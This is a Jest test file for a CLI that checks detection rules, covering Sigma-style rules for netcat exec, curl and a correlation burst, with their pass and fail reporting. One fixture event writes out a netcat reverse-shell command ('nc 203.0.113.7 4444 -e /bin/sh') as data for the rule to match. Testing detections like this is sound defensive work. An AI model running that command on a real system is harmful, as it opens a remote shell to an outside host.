import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { testRulesDirectory } from "./rules-test";

// `vigil rules test <dir>` on real directories: the shipped ruleset passes,
// and each way a rule author can get it wrong is printed as FAIL with the
// reason and exits 1.

const SHIPPED = join(__dirname, "..", "..", "..", "rules");

const NETCAT = "0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c6d";
const CURL = "0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c6e";
const BURST = "0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c6f";

const netcatRule = `title: Netcat exec
id: ${NETCAT}
name: netcat_exec
author: tests
description: nc -e
tags: [attack.execution, attack.t1059.004]
logsource: { product: linux, category: process_creation }
detection:
  selection:
    Image|endswith: /nc
    CommandLine|contains: ' -e '
  condition: selection
falsepositives: [none]
level: high
`;

const curlRule = `title: Curl run
id: ${CURL}
name: curl_run
author: tests
description: any curl
tags: [attack.command_and_control, attack.t1105]
logsource: { product: linux, category: process_creation }
detection:
  selection:
    Image|endswith: /curl
  condition: selection
falsepositives: [everything]
level: low
`;

const burstRule = `title: Three curls
id: ${BURST}
author: tests
tags: [attack.command_and_control, attack.t1105]
correlation:
  type: event_count
  rules: [curl_run]
  group-by: [host.name]
  timespan: 1m
  condition: { gte: 3 }
level: medium
`;

function exec(id: string, second: number, executable: string, args: string[]): string {
  const doc = {
    "@timestamp": new Date(Date.UTC(2026, 10, 23, 10, 0, second)).toISOString(),
    event: { id, kind: "event", category: ["process"], type: ["start"], action: "exec", module: "vigil" },
    host: { name: "web-1" },
    agent: { type: "vigil-agent" },
    process: { pid: 100 + second, executable, args, command_line: args.join(" ") },
  };
  return JSON.stringify(doc);
}

const ncEvent = (id: string) => exec(id, 1, "/usr/bin/nc", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]);
const curlEvent = (id: string, second: number) =>
  exec(id, second, "/usr/bin/curl", ["curl", "-s", "http://x"]);

describe("vigil rules test <dir>", () => {
  let root: string;
  let printed: string[];
  let savedExitCode: typeof process.exitCode;

  /** A rules directory with the given files (path → text). */
  function directory(name: string, files: Record<string, string>): string {
    const dir = join(root, name);
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(dir, path, ".."), { recursive: true });
      writeFileSync(join(dir, path), text);
    }
    return dir;
  }

  async function run(dir: string): Promise<{ lines: string[]; exitCode: typeof process.exitCode }> {
    printed = [];
    process.exitCode = undefined;
    await testRulesDirectory(dir, { json: false });
    const exitCode = process.exitCode;
    process.exitCode = undefined;
    return { lines: printed.join("").split("\n").filter(Boolean), exitCode };
  }

  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), "default-ruleset-cli-"));
    savedExitCode = process.exitCode;
    jest.spyOn(process.stdout, "write").mockImplementation((chunk: string | Uint8Array) => {
      printed.push(String(chunk));
      return true;
    });
  });

  afterAll(() => {
    jest.restoreAllMocks();
    process.exitCode = savedExitCode;
    rmSync(root, { recursive: true, force: true });
  });

  test("the shipped ruleset passes: one PASS line per rule, a summary, exit code 0", async () => {
    const { lines, exitCode } = await run(SHIPPED);
    expect(exitCode).toBeUndefined();
    expect(lines.filter((line) => line.startsWith("FAIL") || line.startsWith("UNTESTED"))).toEqual([]);
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^PASS {2}corr_lnx_ssh_brute_force\.yml {2}SSH Brute Force From One Address \(2 fires, 2 no_fire\)$/,
      ),
    );
    expect(lines.filter((line) => line.startsWith("PASS")).length).toBeGreaterThanOrEqual(52);
    expect(lines.at(-1)).toMatch(/^\d+ test files, (\d+) cases: \1 passed, 0 failed$/);
  });

  test("passing base and correlation tests in a directory of one's own", async () => {
    const dir = directory("good", {
      "linux/netcat.yml": netcatRule,
      "linux/curl.yml": `${curlRule}---\n${burstRule}`,
      "tests/netcat.yml": `rule: ${NETCAT}\nmatch:\n  - name: nc -e\n    event: ${ncEvent("n1")}\nno_match:\n  - name: curl\n    event: ${curlEvent("n2", 2)}\n`,
      "tests/curl.yml": `rule: ${CURL}\nmatch:\n  - name: curl\n    event: ${curlEvent("c1", 1)}\nno_match:\n  - name: nc\n    event: ${ncEvent("c2")}\n`,
      "tests/burst.yml": `rule: ${BURST}\nfires:\n  - name: three in a minute\n    events: [${curlEvent("b1", 0)}, ${curlEvent("b2", 10)}, ${curlEvent("b3", 20)}]\nno_fire:\n  - name: two\n    events: [${curlEvent("b4", 0)}, ${curlEvent("b5", 10)}]\n`,
    });
    const { lines, exitCode } = await run(dir);
    expect(exitCode).toBeUndefined();
    expect(lines).toEqual([
      "PASS  burst.yml  Three curls (1 fires, 1 no_fire)",
      "PASS  curl.yml  Curl run (1 match, 1 no_match)",
      "PASS  netcat.yml  Netcat exec (1 match, 1 no_match)",
      "3 test files, 6 cases: 6 passed, 0 failed",
    ]);
  });

  test("failing cases are named with the reason, and exit 1", async () => {
    const dir = directory("failing", {
      "linux/netcat.yml": netcatRule,
      "linux/curl.yml": `${curlRule}---\n${burstRule.replace("gte: 3", "gte: 2")}`,
      // The match event also fires nothing else; the no_match event does fire the rule.
      "tests/netcat.yml": `rule: ${NETCAT}\nmatch:\n  - name: plain nc\n    event: ${exec("f1", 1, "/usr/bin/nc", ["nc", "-zv", "db", "5432"])}\nno_match:\n  - name: nc -e after all\n    event: ${ncEvent("f2")}\n`,
      // curl_run feeds the burst, a silenced base rule; its match fires only itself.
      "tests/curl.yml": `rule: ${CURL}\nmatch:\n  - name: curl with an unexpected extra\n    also_fires: [${NETCAT}]\n    event: ${curlEvent("f3", 1)}\nno_match:\n  - name: nc\n    event: ${ncEvent("f4")}\n`,
      "tests/burst.yml": `rule: ${BURST}\nfires:\n  - name: three in a minute\n    events: [${curlEvent("f5", 0)}, ${curlEvent("f6", 10)}, ${curlEvent("f7", 20)}]\nno_fire:\n  - name: two\n    events: [${curlEvent("f8", 0)}, ${curlEvent("f9", 10)}]\n`,
    });
    const { lines, exitCode } = await run(dir);
    expect(exitCode).toBe(1);
    expect(lines).toEqual([
      "FAIL  burst.yml  Three curls (1 fires, 1 no_fire)",
      '      fires "three in a minute": fired at event 2 of 3 (expected once, at the last)',
      '      no_fire "two": fired at event 2 of 2',
      "FAIL  curl.yml  Curl run (1 match, 1 no_match)",
      `      match "curl with an unexpected extra": did not fire ${NETCAT} (Netcat exec)`,
      "FAIL  netcat.yml  Netcat exec (1 match, 1 no_match)",
      `      match "plain nc": did not fire ${NETCAT} (Netcat exec)`,
      '      no_match "nc -e after all": the rule fired',
      "3 test files, 6 cases: 1 passed, 5 failed; 3 rules FAIL",
    ]);
  });

  test("broken test files, rules that do not load and untested rules are reported; exit 1", async () => {
    const dir = directory("broken", {
      "linux/netcat.yml": netcatRule,
      "linux/curl.yml": curlRule,
      "linux/bad.yml": netcatRule
        .replace(NETCAT, "0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c70")
        .replace("Image|endswith", "Imagee|endswith"),
      "tests/netcat.yml": `rule: ${NETCAT}\nmatch:\n  - name: no event here\nfires:\n  - name: wrong kind\n    events: [${ncEvent("x1")}]\n`,
      "tests/ghost.yml": `rule: 0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c71\nmatch: []\n`,
      "tests/yaml.yml": "rule: [unclosed\n",
    });
    const { lines, exitCode } = await run(dir);
    expect(exitCode).toBe(1);
    expect(lines).toEqual([
      "FAIL  ghost.yml",
      "      no rule with id 0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c71 in the directory",
      "FAIL  netcat.yml  Netcat exec",
      "      match[0] (no event here): 'event' must be an event document",
      "      wrong kind: 'fires' is for correlation rules (use match / no_match)",
      "FAIL  yaml.yml",
      expect.stringMatching(/^ {6}invalid YAML: /),
      `UNTESTED  curl.yml  Curl run (${CURL})`,
      "rules that did not load:",
      expect.stringMatching(/bad\.yml: rule 0d5a7c4e-8b1f-4a2e-9c3d-1e2f3a4b5c70: .*unknown field 'Imagee'/),
      "3 test files, 0 cases: 0 passed, 0 failed; 3 rules FAIL; 1 rules did not load; 1 rules without tests",
    ]);
  });

  test("a directory without tests/ fails; a path that is not a directory is refused with the reason", async () => {
    const dir = directory("untested", { "linux/netcat.yml": netcatRule });
    const { lines, exitCode } = await run(dir);
    expect(exitCode).toBe(1);
    expect(lines[0]).toBe(`${dir}: no tests directory (${dir}/tests/<rule-file>.yml)`);
    await expect(testRulesDirectory(join(dir, "linux", "netcat.yml"), { json: false })).rejects.toThrow(
      /is not a directory/,
    );
    await expect(testRulesDirectory(join(root, "missing"), { json: false })).rejects.toThrow(
      /^cannot read .*missing: ENOENT/,
    );
  });

  test("--json prints the whole report", async () => {
    printed = [];
    const report = await testRulesDirectory(SHIPPED, { json: true });
    const parsed = JSON.parse(printed.join(""));
    expect(parsed.ok).toBe(true);
    expect(parsed.results.length).toBe(report.results.length);
    expect(parsed.failed).toBe(0);
  });
});
